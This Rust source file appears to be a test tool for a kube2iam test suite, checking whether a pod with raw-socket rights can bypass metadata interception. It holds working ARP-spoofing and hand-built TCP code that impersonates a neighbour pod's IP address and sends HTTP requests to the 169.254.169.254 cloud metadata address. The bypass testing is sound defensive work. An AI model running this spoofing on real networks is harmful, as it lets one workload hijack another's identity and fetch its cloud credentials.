//! What a pod with CAP_NET_RAW can send without ever calling connect(), to get past a
//! connect-time rewrite or to speak with another pod's address.
//!
//! ```text
//! k2i-raw syn   <src-ip> <dst-ip> <port>              raw IPv4 socket, a TCP SYN
//! k2i-raw udp   <dst-ip> <port>                        unconnected UDP datagram (v4 or v6)
//! k2i-raw frame <ifname> <dst-mac> <src-ip> <dst-ip> <port>   AF_PACKET Ethernet+IPv4+UDP frame
//! k2i-raw http  <ifname> <gw-mac> <gw-ip> <src-ip> <dst-ip> <port> <path>
//! ```
//!
//! `syn`, `udp` and `frame` send one packet and print `{"ok":bool,"error":str|null}`.
//!
//! `http` is ARP spoofing plus TCP by hand over AF_PACKET on `ifname`: it tells the gateway
//! that `src-ip` (a neighbour's address, not this pod's) is at this interface's MAC, answers ARP
//! requests for `src-ip` while it runs, completes a TCP handshake from `src-ip` to
//! `dst-ip:port`, sends `GET <path>` and reads the answer to the server's FIN. It prints a
//! `k2i-probe`-style line `{"ok":..,"errno":..,"error":..,"peer":..,"body":..}` (`ok` once the
//! server closed after answering). This pod's own kernel must not act on packets for `src-ip`
//! (the test drops them before its IP layer); AF_PACKET sees them before that.

use std::{
    ffi::CString,
    io,
    net::{Ipv4Addr, SocketAddr, UdpSocket},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use kube2iam_tests::ProbeResult;

fn checksum(data: &[u8]) -> u16 {
    let mut sum = 0u32;
    for chunk in data.chunks(2) {
        let word = u16::from_be_bytes([chunk[0], *chunk.get(1).unwrap_or(&0)]);
        sum += u32::from(word);
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn sockaddr_in(ip: Ipv4Addr, port: u16) -> libc::sockaddr_in {
    // SAFETY: zeroed sockaddr_in is valid; fields set below.
    let mut addr: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    addr.sin_family = libc::AF_INET as u16;
    addr.sin_port = port.to_be();
    addr.sin_addr.s_addr = u32::from_ne_bytes(ip.octets());
    addr
}

fn syn(src: Ipv4Addr, dst: Ipv4Addr, port: u16) -> io::Result<()> {
    // SAFETY: plain socket(2).
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_TCP) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    let tcp = tcp_segment(
        (src, 40000),
        (dst, port),
        Seq { seq: 12345, ack: 0 },
        TCP_SYN,
        &[],
    );
    let addr = sockaddr_in(dst, 0);
    send_and_close(fd, &tcp, &addr)
}

const TCP_FIN: u8 = 0x01;
const TCP_SYN: u8 = 0x02;
const TCP_RST: u8 = 0x04;
const TCP_PSH: u8 = 0x08;
const TCP_ACK: u8 = 0x10;
const ETH_P_IP: u16 = 0x0800;
const ETH_P_ARP: u16 = 0x0806;

/// Sequence and acknowledgement numbers of a segment.
#[derive(Clone, Copy)]
struct Seq {
    seq: u32,
    ack: u32,
}

/// A TCP segment without options, its checksum filled in.
fn tcp_segment(
    (src, sport): (Ipv4Addr, u16),
    (dst, dport): (Ipv4Addr, u16),
    seq: Seq,
    flags: u8,
    payload: &[u8],
) -> Vec<u8> {
    let mut tcp = vec![0u8; 20];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.seq.to_be_bytes());
    tcp[8..12].copy_from_slice(&seq.ack.to_be_bytes());
    tcp[12] = 5 << 4; // data offset
    tcp[13] = flags;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp.extend_from_slice(payload);
    let mut pseudo = Vec::with_capacity(12 + tcp.len());
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8]);
    pseudo.extend_from_slice(&(tcp.len() as u16).to_be_bytes());
    pseudo.extend_from_slice(&tcp);
    let sum = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    tcp
}

/// An IPv4 header (no options, checksum filled in) followed by `payload`.
fn ipv4(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, payload: &[u8]) -> Vec<u8> {
    let mut ip = vec![0u8; 20];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&((20 + payload.len()) as u16).to_be_bytes());
    ip[6] = 0x40; // don't fragment
    ip[8] = 64;
    ip[9] = protocol;
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&dst.octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(payload);
    ip
}

fn ethernet(dst: [u8; 6], src: [u8; 6], ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::with_capacity(14 + payload.len());
    frame.extend_from_slice(&dst);
    frame.extend_from_slice(&src);
    frame.extend_from_slice(&ethertype.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// An Ethernet/IPv4 ARP packet.
fn arp(op: u16, sender: ([u8; 6], Ipv4Addr), target: ([u8; 6], Ipv4Addr)) -> Vec<u8> {
    let mut arp = Vec::with_capacity(28);
    arp.extend_from_slice(&1u16.to_be_bytes()); // Ethernet
    arp.extend_from_slice(&ETH_P_IP.to_be_bytes());
    arp.extend_from_slice(&[6, 4]);
    arp.extend_from_slice(&op.to_be_bytes());
    arp.extend_from_slice(&sender.0);
    arp.extend_from_slice(&sender.1.octets());
    arp.extend_from_slice(&target.0);
    arp.extend_from_slice(&target.1.octets());
    arp
}

/// One sendto(2) on a raw socket, which is then closed.
fn send_and_close<A>(fd: libc::c_int, packet: &[u8], addr: &A) -> io::Result<()> {
    // SAFETY: valid fd, buffer and address of the stated size.
    let sent = unsafe {
        libc::sendto(
            fd,
            packet.as_ptr().cast(),
            packet.len(),
            0,
            (addr as *const A).cast(),
            std::mem::size_of::<A>() as u32,
        )
    };
    let result = if sent < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(())
    };
    // SAFETY: closing our own fd.
    unsafe { libc::close(fd) };
    result
}

fn udp(dst: SocketAddr) -> io::Result<()> {
    let bind = if dst.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(bind)?;
    socket.send_to(b"k2i-raw udp", dst).map(drop)
}

fn parse_mac(s: &str) -> Option<[u8; 6]> {
    let bytes: Vec<u8> = s
        .split(':')
        .map(|b| u8::from_str_radix(b, 16))
        .collect::<Result<_, _>>()
        .ok()?;
    bytes.try_into().ok()
}

fn frame(
    ifname: &str,
    dst_mac: [u8; 6],
    src: Ipv4Addr,
    dst: Ipv4Addr,
    port: u16,
    vlan_tags: usize,
) -> io::Result<()> {
    let c =
        std::ffi::CString::new(ifname).map_err(|_| io::Error::from(io::ErrorKind::InvalidInput))?;
    // SAFETY: valid C string.
    let ifindex = unsafe { libc::if_nametoindex(c.as_ptr()) };
    if ifindex == 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: plain socket(2).
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW,
            (libc::ETH_P_ALL as u16).to_be() as i32,
        )
    };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    let payload = b"k2i-raw frame";
    let mut udp = Vec::with_capacity(8 + payload.len());
    udp.extend_from_slice(&40001u16.to_be_bytes());
    udp.extend_from_slice(&port.to_be_bytes());
    udp.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    udp.extend_from_slice(&[0, 0]); // no UDP checksum (allowed for IPv4)
    udp.extend_from_slice(payload);
    let ip = ipv4(src, dst, libc::IPPROTO_UDP as u8, &udp);
    // `vlan_tags` stacked 802.1Q tags with VLAN ID 0 (priority tags, which the kernel strips on
    // the way in) around the IPv4 packet.
    let mut inner = ip;
    let mut ethertype = ETH_P_IP;
    for _ in 0..vlan_tags {
        let mut tagged = Vec::with_capacity(inner.len() + 4);
        tagged.extend_from_slice(&[0, 0]); // TCI: priority 0, VLAN 0
        tagged.extend_from_slice(&ethertype.to_be_bytes());
        tagged.extend_from_slice(&inner);
        inner = tagged;
        ethertype = 0x8100;
    }
    // A locally administered source.
    let packet = ethernet(dst_mac, [0x02, 0, 0, 0, 0, 0x01], ethertype, &inner);
    // SAFETY: zeroed sockaddr_ll is valid; fields set below.
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_ifindex = ifindex as i32;
    addr.sll_halen = 6;
    addr.sll_addr[..6].copy_from_slice(&dst_mac);
    send_and_close(fd, &packet, &addr)
}

fn run(args: &[String]) -> Result<(), String> {
    let ip = |s: &String| s.parse::<Ipv4Addr>().map_err(|e| format!("{s}: {e}"));
    let port = |s: &String| s.parse::<u16>().map_err(|e| format!("{s}: {e}"));
    match args {
        [cmd, src, dst, p] if cmd == "syn" => {
            syn(ip(src)?, ip(dst)?, port(p)?).map_err(|e| e.to_string())
        }
        [cmd, dst, p] if cmd == "udp" => {
            let addr: std::net::IpAddr = dst.parse().map_err(|e| format!("{dst}: {e}"))?;
            udp(SocketAddr::new(addr, port(p)?)).map_err(|e| e.to_string())
        }
        [cmd, ifname, mac, src, dst, p] if cmd == "frame" => {
            let mac = parse_mac(mac).ok_or_else(|| format!("{mac}: not a MAC address"))?;
            frame(ifname, mac, ip(src)?, ip(dst)?, port(p)?, 0).map_err(|e| e.to_string())
        }
        [cmd, ifname, mac, src, dst, p, tags] if cmd == "frame" => {
            let mac = parse_mac(mac).ok_or_else(|| format!("{mac}: not a MAC address"))?;
            let tags: usize = tags.parse().map_err(|e| format!("{tags}: {e}"))?;
            frame(ifname, mac, ip(src)?, ip(dst)?, port(p)?, tags).map_err(|e| e.to_string())
        }
        _ => Err(format!("usage: see the source; got {args:?}")),
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.first().is_some_and(|cmd| cmd == "http") {
        println!("{}", http_main(&args[1..]).to_json());
        return;
    }
    match run(&args) {
        Ok(()) => println!("{{\"ok\":true,\"error\":null}}"),
        Err(e) => println!("{{\"ok\":false,\"error\":{:?}}}", e),
    }
}

/// How long the whole `http` exchange may take.
const HTTP_DEADLINE: Duration = Duration::from_secs(10);
/// A SYN or the request goes again after this long without an answer.
const RETRANSMIT: Duration = Duration::from_millis(500);

fn http_main(args: &[String]) -> ProbeResult {
    let mut result = ProbeResult::default();
    let parsed = (|| {
        let [ifname, gw_mac, gw_ip, src, dst, port, path] = args else {
            return Err(format!(
                "usage: k2i-raw http <ifname> <gw-mac> <gw-ip> <src-ip> <dst-ip> <port> <path>; \
                 got {args:?}"
            ));
        };
        let ip = |s: &String| s.parse::<Ipv4Addr>().map_err(|e| format!("{s}: {e}"));
        Ok(Spoof {
            link: Link::open(ifname).map_err(|e| format!("AF_PACKET socket on {ifname}: {e}"))?,
            gateway: (
                parse_mac(gw_mac).ok_or_else(|| format!("{gw_mac}: not a MAC address"))?,
                ip(gw_ip)?,
            ),
            src: ip(src)?,
            dst: (ip(dst)?, port.parse().map_err(|e| format!("{port}: {e}"))?),
            path: path.clone(),
        })
    })();
    let spoof = match parsed {
        Ok(spoof) => spoof,
        Err(e) => {
            result.error = Some(e);
            return result;
        }
    };
    result.peer = Some(SocketAddr::from(spoof.dst).to_string());
    let mut body = Vec::new();
    match spoof.exchange(&mut body) {
        Ok(()) => result.ok = true,
        Err(e) => {
            result.errno = e.raw_os_error();
            result.error = Some(e.to_string());
        }
    }
    if !body.is_empty() || result.ok {
        result.body = Some(String::from_utf8_lossy(&body).into_owned());
    }
    result
}

/// An AF_PACKET socket bound to one interface, and that interface's MAC.
struct Link {
    fd: OwnedFd,
    ifindex: i32,
    mac: [u8; 6],
}

impl Link {
    fn open(ifname: &str) -> io::Result<Link> {
        let name =
            CString::new(ifname).map_err(|_| io::Error::from(io::ErrorKind::InvalidInput))?;
        // SAFETY: valid C string.
        let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if ifindex == 0 {
            return Err(io::Error::last_os_error());
        }
        let all = (libc::ETH_P_ALL as u16).to_be();
        // SAFETY: plain socket(2); owned at once.
        let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, i32::from(all)) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: a fresh descriptor nobody else owns.
        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: zeroed sockaddr_ll is valid; fields set below.
        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_protocol = all;
        addr.sll_ifindex = ifindex as i32;
        // SAFETY: a valid sockaddr_ll of the stated size.
        let rc = unsafe {
            libc::bind(
                fd.as_raw_fd(),
                (&raw const addr).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if rc != 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: zeroed ifreq is valid; the name fits (if_nametoindex accepted it).
        let mut req: libc::ifreq = unsafe { std::mem::zeroed() };
        for (dst, src) in req.ifr_name.iter_mut().zip(name.as_bytes()) {
            *dst = *src as libc::c_char;
        }
        // SAFETY: SIOCGIFHWADDR fills the ifreq we pass.
        if unsafe { libc::ioctl(fd.as_raw_fd(), libc::SIOCGIFHWADDR, &raw mut req) } != 0 {
            return Err(io::Error::last_os_error());
        }
        let mut mac = [0u8; 6];
        // SAFETY: SIOCGIFHWADDR wrote the hardware address union member.
        let hw = unsafe { req.ifr_ifru.ifru_hwaddr };
        for (dst, src) in mac.iter_mut().zip(hw.sa_data) {
            *dst = src as u8;
        }
        let timeout = libc::timeval {
            tv_sec: 0,
            tv_usec: 50_000,
        };
        // SAFETY: valid fd and option buffer.
        unsafe {
            libc::setsockopt(
                fd.as_raw_fd(),
                libc::SOL_SOCKET,
                libc::SO_RCVTIMEO,
                (&raw const timeout).cast(),
                std::mem::size_of::<libc::timeval>() as u32,
            );
        }
        Ok(Link {
            fd,
            ifindex: ifindex as i32,
            mac,
        })
    }

    /// Sends one Ethernet frame (its destination MAC is in the first 6 bytes).
    fn send(&self, frame: &[u8]) -> io::Result<()> {
        // SAFETY: zeroed sockaddr_ll is valid; fields set below.
        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_ifindex = self.ifindex;
        addr.sll_halen = 6;
        addr.sll_addr[..6].copy_from_slice(&frame[..6]);
        // SAFETY: valid fd, buffer and address of the stated size.
        let sent = unsafe {
            libc::sendto(
                self.fd.as_raw_fd(),
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&raw const addr).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if sent < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    /// The next frame the interface received, or `None` after a short wait. Frames this socket
    /// or this pod sent are skipped.
    fn recv(&self, buf: &mut [u8]) -> io::Result<Option<usize>> {
        // SAFETY: zeroed sockaddr_ll is valid; the kernel fills it.
        let mut from: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        let mut len = std::mem::size_of::<libc::sockaddr_ll>() as u32;
        // SAFETY: valid fd, buffer and address buffer of the stated sizes.
        let n = unsafe {
            libc::recvfrom(
                self.fd.as_raw_fd(),
                buf.as_mut_ptr().cast(),
                buf.len(),
                0,
                (&raw mut from).cast(),
                &mut len,
            )
        };
        if n < 0 {
            let e = io::Error::last_os_error();
            return match e.kind() {
                io::ErrorKind::WouldBlock
                | io::ErrorKind::TimedOut
                | io::ErrorKind::Interrupted => Ok(None),
                _ => Err(e),
            };
        }
        if from.sll_pkttype == libc::PACKET_OUTGOING {
            return Ok(None);
        }
        Ok(Some(n as usize))
    }
}

/// A frame this pod received, as far as the exchange cares.
enum Rx {
    /// An ARP request: who has `target`? (asked by `sender`).
    ArpRequest {
        sender: ([u8; 6], Ipv4Addr),
        target: Ipv4Addr,
    },
    Tcp(Segment),
    Other,
}

struct Segment {
    src: (Ipv4Addr, u16),
    dst: (Ipv4Addr, u16),
    seq: u32,
    ack: u32,
    flags: u8,
    payload: Vec<u8>,
}

fn parse_frame(frame: &[u8]) -> Option<Rx> {
    let ethertype = u16::from_be_bytes([*frame.get(12)?, *frame.get(13)?]);
    let l3 = frame.get(14..)?;
    let ip4 = |b: &[u8]| {
        Some(Ipv4Addr::new(
            *b.first()?,
            *b.get(1)?,
            *b.get(2)?,
            *b.get(3)?,
        ))
    };
    match ethertype {
        ETH_P_ARP => {
            let op = u16::from_be_bytes([*l3.get(6)?, *l3.get(7)?]);
            if op != 1 {
                return Some(Rx::Other);
            }
            let mac: [u8; 6] = l3.get(8..14)?.try_into().ok()?;
            Some(Rx::ArpRequest {
                sender: (mac, ip4(l3.get(14..18)?)?),
                target: ip4(l3.get(24..28)?)?,
            })
        }
        ETH_P_IP => {
            let ihl = usize::from(l3.first()? & 0x0f) * 4;
            if *l3.get(9)? != libc::IPPROTO_TCP as u8 {
                return Some(Rx::Other);
            }
            // The IP length, not the frame's: a frame may carry padding.
            let total = usize::from(u16::from_be_bytes([*l3.get(2)?, *l3.get(3)?]));
            let tcp = l3.get(ihl..total)?;
            let offset = usize::from(tcp.get(12)? >> 4) * 4;
            let be16 = |i: usize| Some(u16::from_be_bytes([*tcp.get(i)?, *tcp.get(i + 1)?]));
            let be32 = |i: usize| Some(u32::from_be_bytes(tcp.get(i..i + 4)?.try_into().ok()?));
            Some(Rx::Tcp(Segment {
                src: (ip4(l3.get(12..16)?)?, be16(0)?),
                dst: (ip4(l3.get(16..20)?)?, be16(2)?),
                seq: be32(4)?,
                ack: be32(8)?,
                flags: *tcp.get(13)?,
                payload: tcp.get(offset..)?.to_vec(),
            }))
        }
        _ => Some(Rx::Other),
    }
}

/// One HTTP exchange from a borrowed address.
struct Spoof {
    link: Link,
    /// The gateway's MAC and IPv4 address.
    gateway: ([u8; 6], Ipv4Addr),
    /// The neighbour's address this pod speaks with.
    src: Ipv4Addr,
    dst: (Ipv4Addr, u16),
    path: String,
}

enum State {
    SynSent,
    Established,
    /// Our FIN is out; waiting for its ACK.
    Closing,
}

impl Spoof {
    fn frame_to_gateway(&self, ethertype: u16, payload: &[u8]) -> Vec<u8> {
        ethernet(self.gateway.0, self.link.mac, ethertype, payload)
    }

    fn send_tcp(&self, sport: u16, seq: Seq, flags: u8, payload: &[u8]) -> io::Result<()> {
        let tcp = tcp_segment((self.src, sport), self.dst, seq, flags, payload);
        let ip = ipv4(self.src, self.dst.0, libc::IPPROTO_TCP as u8, &tcp);
        self.link.send(&self.frame_to_gateway(ETH_P_IP, &ip))
    }

    /// Tells the gateway that `src` is at this pod's MAC: an ARP request for the gateway's own
    /// address from `src`, which the gateway answers and learns the sender from.
    fn poison(&self) -> io::Result<()> {
        let request = arp(1, (self.link.mac, self.src), ([0; 6], self.gateway.1));
        self.link.send(&self.frame_to_gateway(ETH_P_ARP, &request))
    }

    /// Answers who-has `src` with this pod's MAC.
    fn answer_arp(&self, asker: ([u8; 6], Ipv4Addr)) -> io::Result<()> {
        let reply = arp(2, (self.link.mac, self.src), asker);
        self.link
            .send(&ethernet(asker.0, self.link.mac, ETH_P_ARP, &reply))
    }

    /// The handshake, the request and the answer (into `body`) up to the server's FIN.
    fn exchange(&self, body: &mut Vec<u8>) -> io::Result<()> {
        let nanos = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map_or(0, |d| d.subsec_nanos());
        let sport = 33000 + ((nanos ^ std::process::id()) % 27000) as u16;
        let isn = nanos.wrapping_mul(2_654_435_761);
        eprintln!(
            "k2i-raw: {}:{sport} -> {}:{} from MAC {}",
            self.src,
            self.dst.0,
            self.dst.1,
            self.link.mac.map(|b| format!("{b:02x}")).join(":")
        );
        let request = format!(
            "GET {} HTTP/1.1\r\nHost: 169.254.169.254\r\nUser-Agent: k2i-raw\r\nConnection: \
             close\r\n\r\n",
            self.path
        );
        let request = request.as_bytes();
        self.poison()?;
        let deadline = Instant::now() + HTTP_DEADLINE;
        let mut state = State::SynSent;
        let mut snd_nxt = isn.wrapping_add(1);
        let mut rcv_nxt = 0u32;
        let mut request_acked = false;
        self.send_tcp(sport, Seq { seq: isn, ack: 0 }, TCP_SYN, &[])?;
        let mut sent_at = Instant::now();
        let mut buf = vec![0u8; 65_536];
        loop {
            let now = Instant::now();
            if now >= deadline {
                let _ = self.send_tcp(
                    sport,
                    Seq {
                        seq: snd_nxt,
                        ack: 0,
                    },
                    TCP_RST,
                    &[],
                );
                return Err(io::Error::new(
                    io::ErrorKind::TimedOut,
                    match state {
                        State::SynSent => "no SYN-ACK from the server",
                        State::Established => "the server did not finish its answer",
                        State::Closing => "the server did not acknowledge the FIN",
                    },
                ));
            }
            if now.duration_since(sent_at) >= RETRANSMIT {
                sent_at = now;
                match state {
                    State::SynSent => {
                        self.poison()?;
                        self.send_tcp(sport, Seq { seq: isn, ack: 0 }, TCP_SYN, &[])?;
                    }
                    State::Established if !request_acked => {
                        let seq = Seq {
                            seq: isn.wrapping_add(1),
                            ack: rcv_nxt,
                        };
                        self.send_tcp(sport, seq, TCP_PSH | TCP_ACK, request)?;
                    }
                    State::Closing => return Ok(()),
                    State::Established => {}
                }
            }
            let Some(n) = self.link.recv(&mut buf)? else {
                continue;
            };
            let segment = match parse_frame(&buf[..n]) {
                Some(Rx::ArpRequest { sender, target }) if target == self.src => {
                    self.answer_arp(sender)?;
                    continue;
                }
                Some(Rx::Tcp(segment))
                    if segment.src == self.dst && segment.dst == (self.src, sport) =>
                {
                    segment
                }
                _ => continue,
            };
            if segment.flags & TCP_RST != 0 {
                return Err(io::Error::new(
                    io::ErrorKind::ConnectionReset,
                    "the server reset the connection",
                ));
            }
            match state {
                State::SynSent => {
                    if segment.flags & (TCP_SYN | TCP_ACK) != TCP_SYN | TCP_ACK
                        || segment.ack != snd_nxt
                    {
                        continue;
                    }
                    rcv_nxt = segment.seq.wrapping_add(1);
                    let ack = Seq {
                        seq: snd_nxt,
                        ack: rcv_nxt,
                    };
                    self.send_tcp(sport, ack, TCP_ACK, &[])?;
                    self.send_tcp(sport, ack, TCP_PSH | TCP_ACK, request)?;
                    snd_nxt = snd_nxt.wrapping_add(request.len() as u32);
                    sent_at = Instant::now();
                    state = State::Established;
                }
                State::Established => {
                    if segment.flags & TCP_ACK != 0 && segment.ack == snd_nxt {
                        request_acked = true;
                    }
                    let mut advanced = false;
                    if !segment.payload.is_empty() && segment.seq == rcv_nxt {
                        body.extend_from_slice(&segment.payload);
                        rcv_nxt = rcv_nxt.wrapping_add(segment.payload.len() as u32);
                        advanced = true;
                    }
                    let fin = segment.flags & TCP_FIN != 0
                        && segment.seq.wrapping_add(segment.payload.len() as u32) == rcv_nxt;
                    if fin {
                        rcv_nxt = rcv_nxt.wrapping_add(1);
                        let seq = Seq {
                            seq: snd_nxt,
                            ack: rcv_nxt,
                        };
                        self.send_tcp(sport, seq, TCP_FIN | TCP_ACK, &[])?;
                        snd_nxt = snd_nxt.wrapping_add(1);
                        sent_at = Instant::now();
                        state = State::Closing;
                    } else if advanced || !segment.payload.is_empty() {
                        let seq = Seq {
                            seq: snd_nxt,
                            ack: rcv_nxt,
                        };
                        self.send_tcp(sport, seq, TCP_ACK, &[])?;
                    }
                }
                State::Closing => {
                    if segment.flags & TCP_ACK != 0 && segment.ack == snd_nxt {
                        return Ok(());
                    }
                }
            }
        }
    }
}
